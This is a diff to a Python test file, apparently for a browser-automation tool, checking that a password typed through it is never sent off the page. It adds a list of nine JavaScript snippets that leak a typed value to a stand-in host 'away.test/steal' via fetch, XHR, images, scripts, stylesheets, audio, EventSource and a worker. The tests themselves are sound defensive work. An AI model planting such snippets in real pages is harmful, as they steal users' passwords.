@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -124,7 +125,8 @@ async def test_a_typed_secret_comes_out_nowhere(
     assert secrets.given == {CANARY}
     assert [text for text in said if CANARY in text] == []
     assert [path for path in written(kept) if CANARY.encode() in path.read_bytes()] == []
-    assert seen.screenshot
+    assert seen.screenshot is None
+    assert "no screenshot: the page shows a secret" in seen.console
     assert seen.outline_file
 
 
@@ -140,3 +142,48 @@ async def test_all_is_watched_once_a_secret_stands_on_the_page(rig: Rig, pages: 
     await rig.ok(fill({"label": "Password"}, SecretUse(secret="password")))
     await rig.tab.pages[0].wait_for_function("() => document.title === 'refused'")
     assert pages.hits("/steal") == 0
+
+
+LEAKS = {
+    "fetch": "fetch('http://away.test/steal?'+v,{mode:'no-cors'}).catch(()=>{})",
+    "fetch, without the secret": "fetch('http://away.test/steal',{mode:'no-cors'}).catch(()=>{})",
+    "xhr": "x=new XMLHttpRequest();x.open('GET','http://away.test/steal?'+v);x.send()",
+    "image": "new Image().src='http://away.test/steal?'+v",
+    "script": "s=document.createElement('script');s.src='http://away.test/steal?'+v;"
+    "document.body.append(s)",
+    "style": "s=document.createElement('link');s.rel='stylesheet';"
+    "s.href='http://away.test/steal?'+v;document.head.append(s)",
+    "media": "new Audio('http://away.test/steal?'+v).play().catch(()=>{})",
+    "events": "new EventSource('http://away.test/steal?'+v)",
+    "worker": "new Worker(URL.createObjectURL(new Blob(["
+    "'fetch(`http://away.test/steal?'+v+'`,{mode:`no-cors`})'])))",
+}
+
+
+@pytest.mark.parametrize("kind", LEAKS)
+@pytest.mark.parametrize("secret", [True, False])
+async def test_no_address_carries_a_secret_elsewhere(
+    rig: Rig, pages: PageServer, kind: str, secret: bool
+) -> None:
+    """Counted at the other server, which the same page does reach when no secret was typed."""
+    pages.pages["/"] = html(
+        FORM + "<script>document.querySelector('[type=password]').oninput=e=>{"
+        f"const v=e.target.value;let x,s;{LEAKS[kind]};"
+        "new Image().src='http://away.test/plain.png'}</script>"
+    )
+    await rig.goto(URL)
+    value = SecretUse(secret="password") if secret else CANARY
+    outcome = await rig.ok(fill({"label": "Password"}, value))
+    await asyncio.wait_for(pages.reached("/plain.png"), 5)
+    if not secret:
+        await asyncio.wait_for(pages.reached("/steal"), 5)
+        return
+    refusals = list(outcome.happened.refusals)
+    for _ in range(20):
+        if refusals:
+            break
+        await rig.tab.stirred(0.1)
+        refusals += (await rig.tab.happened()).happened.refusals
+    assert pages.hits("/steal") == 0
+    assert [r.url.partition("?")[0] for r in refusals] == ["http://away.test/steal"]
+    assert [r for r in refusals if CANARY in r.model_dump_json()] == []
